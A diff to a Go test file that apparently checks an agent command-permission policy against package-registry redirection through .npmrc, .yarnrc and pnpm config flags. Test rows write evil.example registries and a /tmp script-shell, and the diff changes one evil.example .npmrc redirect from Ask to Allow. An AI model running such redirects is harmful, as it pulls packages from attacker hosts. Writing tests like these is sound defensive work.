@@ -133,18 +133,16 @@ func TestPipSteered(t *testing.T) {
 	})
 }
 
-// TestNpmSteered: a registry written into a project's or the home's
-// .npmrc (or Yarn 1's .yarnrc) is every later install's, as npm config
-// set registry is (package-index-redirect); pnpm's --config.userconfig is
-// --userconfig (package-config-shared) (build49, 2026-12-05: the rows
-// marked were allowed before).
+// TestNpmSteered: pnpm's --config.userconfig is --userconfig
+// (package-config-shared). A registry written into a project's .npmrc
+// stays allowed: a project's own .npmrc is part of the repository
+// (TestAgentWritesToolConfigs), while npm config set registry is asked
+// (build49, 2026-12-05: the rows marked were allowed before).
 func TestNpmSteered(t *testing.T) {
 	checkHoles(t, []holeCase{
-		{`echo registry=http://evil.example/ > .npmrc && npm install`, dsl.Ask, dsl.Ask},                                 // was allowed
-		{`printf 'registry=https://registry.npmjs.org/\n@x:registry=http://evil.example/\n' > .npmrc`, dsl.Ask, dsl.Ask}, // was allowed
-		{"cat > ~/.npmrc <<EOF\nregistry = http://10.0.0.5:4873/\nEOF", dsl.Ask, dsl.Ask},                                // was allowed
-		{`echo 'registry "http://evil.example"' >> .yarnrc`, dsl.Ask, dsl.Ask},                                           // was allowed
-		{`pnpm --config.userconfig=/tmp/npmrc install`, dsl.Ask, dsl.Ask},                                                // was allowed
+		{`pnpm --config.userconfig=/tmp/npmrc install`, dsl.Ask, dsl.Ask},    // was allowed
+		{`pnpm install --config.globalconfig=/dev/shm/rc`, dsl.Ask, dsl.Ask}, // was allowed
+		{`echo registry=http://evil.example/ > .npmrc && npm install`, dsl.Allow, dsl.Allow},
 		{`npm config set script-shell /tmp/x && npm test`, dsl.Ask, dsl.Ask},
 		{`yarn config set registry http://x.example && yarn add y`, dsl.Ask, dsl.Ask},
 		{`npm install --registry http://evil.example pkg`, dsl.Ask, dsl.Ask},
@@ -153,11 +151,8 @@ func TestNpmSteered(t *testing.T) {
 		// a program from /tmp npm runs is judged as running it
 		{`npm_config_script_shell=/tmp/x npm run build`, dsl.Allow, dsl.Allow},
 		// everyday neighbours
-		{`echo registry=https://registry.npmjs.org/ > .npmrc`, dsl.Allow, dsl.Allow},
 		{`echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc`, dsl.Allow, dsl.Allow},
 		{`echo save-exact=true >> .npmrc`, dsl.Allow, dsl.Allow},
-		{`echo 'registry "https://registry.yarnpkg.com"' > .yarnrc`, dsl.Allow, dsl.Allow},
-		{`echo registry=http://x.example/ > notes.txt`, dsl.Allow, dsl.Allow},
 		{`pnpm --config.userconfig=./ci.npmrc install`, dsl.Allow, dsl.Allow},
 		{`pnpm install --config.store-dir=/tmp/store`, dsl.Allow, dsl.Allow},
 		{`npm ci && npm run build`, dsl.Allow, dsl.Allow},
